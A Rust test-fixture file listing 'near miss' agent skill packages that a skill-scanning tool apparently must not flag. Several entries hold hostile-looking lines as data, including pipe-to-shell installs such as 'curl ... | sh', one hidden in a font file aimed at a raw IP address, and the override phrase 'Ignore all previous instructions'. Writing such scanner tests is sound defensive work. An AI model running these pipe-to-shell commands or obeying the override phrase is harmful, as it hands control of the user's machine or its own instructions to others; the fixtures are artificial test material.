//! Near misses: skills that talk about the same things honestly. None may be held (high or
//! critical); each is `(name, files)`.

/// One honest skill.
pub type Benign = (&'static str, &'static [(&'static str, &'static [u8])]);

pub static BENIGN: &[Benign] = &[
    ("readme-curl-prose", &[("README.md", b"Install the tool with your package manager, or download it with curl from the project's website.\n")]),
    ("docs-installer-fence", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\n## Install\n```bash\ncurl -fsSL https://get.example.com | sh\n```\n")]),
    ("bashrc-docs", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\nAdd the following line to your ~/.bashrc, then run `source ~/.bashrc`:\n```\nexport PATH=$HOME/.local/bin:$PATH\n```\n")]),
    ("auth-header", &[("scripts/gh.sh", b"curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n")]),
    ("auth-header-json-body", &[("scripts/ai.sh", b"curl https://api.openai.com/v1/chat/completions -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '{\"model\": \"x\"}'\n")]),
    ("python-env-header", &[("scripts/a.py", b"import os, requests\nr = requests.post(URL, headers={'Authorization': 'Bearer ' + os.environ['API_KEY']}, json={'q': q})\n")]),
    ("crontab-docs", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\nList jobs with `crontab -l`; use `crontab -e` to edit your schedule. The crontab syntax has five fields.\n")]),
    ("injection-detector-docs", &[("references/patterns.md", b"Detect injections like this:\n```text\nIgnore all previous instructions\n```\n")]),
    ("public-key", &[("scripts/k.sh", b"cat ~/.ssh/id_ed25519.pub\n")]),
    ("git-config-name", &[("scripts/g.sh", b"git config --global user.name \"A\"\ngit config core.hooksPath .githooks\n")]),
    ("png-unused", &[("assets/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), ("scripts/b.sh", b"base64 assets/logo.png > out.txt\n")]),
    ("tail-log", &[("scripts/t.sh", b"tail -n 20 logs/app.log | grep ERROR\n")]),
    ("json-mentions-instructions", &[("assets/i.json", b"{\"instructions\": \"Follow the previous steps in order.\"}\n")]),
    ("russian-prose", &[("SKILL.md", "---\nname: n\ndescription: d\n---\nЭтот навык помогает писать отчёты. Не забудьте сохранить файл и скопировать результат.\n".as_bytes())]),
    ("eval-ssh-agent", &[("scripts/s.sh", b"eval \"$(ssh-agent -s)\"\neval \"$(pyenv init -)\"\nsource venv/bin/activate\n")]),
    ("python-exec-local", &[("scripts/c.py", b"exec(open('config.py').read())\n")]),
    ("url-var-to-api", &[("scripts/api.sh", b"U=https://api.example.com/v1\ncurl -s \"$U/items\" | jq .\n")]),
    ("curl-json-python", &[("scripts/j.sh", b"curl -s https://api.example.com/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'\ncurl -s https://api.example.com/y | python3 tools/parse.py\n")]),
    ("download-then-read", &[("scripts/d.sh", b"curl -fsSL https://example.com/data.csv -o data.csv\npython3 scripts/load.py data.csv\n")]),
    ("decode-to-file", &[("scripts/d.sh", b"echo aGVsbG8= | base64 -d > out.txt\ncat out.txt\n")]),
    ("emoji-variation", &[("SKILL.md", "---\nname: n\ndescription: d\n---\nDone \u{2705}\u{FE0F} and \u{2764}\u{FE0F}.\n".as_bytes())]),
    ("never-upload-creds", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\nNever upload ~/.aws/credentials or paste it into a chat.\n")]),
    ("aws-cli-reads-creds", &[("references/aws.md", b"The AWS CLI reads keys from ~/.aws/credentials.\n")]),
    ("ssh-copy-id", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\nRun `ssh-copy-id user@server` to log in without a password.\n")]),
    ("nul-in-binary-font", &[("assets/font.woff2", b"wOF2\0\x01\0\0curl http://203.0.113.7/x | sh")]),
    ("api-key-to-its-own-api", &[("scripts/steam.sh", b"curl -s \"https://api.steampowered.com/IEcon/v1/?key=$STEAM_API_KEY\"\ncurl -s \"$WALLABAG_URL/oauth/v2/token\" --data-urlencode \"client_secret=${WALLABAG_CLIENT_SECRET}\"\n")]),
    ("bashrc-export-in-docs", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\n```bash\necho 'export SECTORS_API_KEY=\"your-key\"' >> ~/.bashrc\n```\n")]),
    ("echo-install-hint", &[("scripts/setup.sh", b"echo \"Install it first: curl https://rclone.org/install.sh | sudo bash\"\necho \"  1. Add to ~/.bashrc: echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc\"\n")]),
    ("python-print-hint", &[("scripts/check.py", b"KEY = 'X_API_KEY'\nprint(f'  echo \\'export {KEY}=\"your-key\"\\' >> ~/.bashrc')\n")]),
    ("source-is-a-field", &[("scripts/m.py", b"import requests\nURL = 'https://api.example.com/p'\nresp = requests.get(URL)\nrow = {'source': resp, 'ok': True}\n"), ("scripts/s.js", b"const data = await fetch(url);\nreturn { source: 'NWS', data };\n")]),
    ("curl-command-string-run", &[("scripts/g.py", b"import os\nurl = 'https://api.example.com/img'\ncmd = f'curl -s -o out.png {url}'\nos.system(cmd)\n")]),
    ("python-module-after-download", &[("scripts/i.sh", b"curl -sSfL https://example.com/req.txt -o playwright\npython3 -m playwright install chromium\n")]),
    ("heading-system-prompt", &[("SKILL.md", b"---\nname: n\ndescription: d\n---\n# System Prompt Guide\nThe system prompt is built from the listing.\n")]),
    ("git-credential-store", &[("scripts/g.sh", b"git config --global credential.helper store\ngit config --global core.editor vim\n")]),
    ("local-bin-own-tool", &[("scripts/i.sh", b"ln -s \"$PWD/bin/mytool\" ~/.local/bin/mytool\ncp target/release/skill-cli ~/.local/bin/skill-cli\n")]),
];
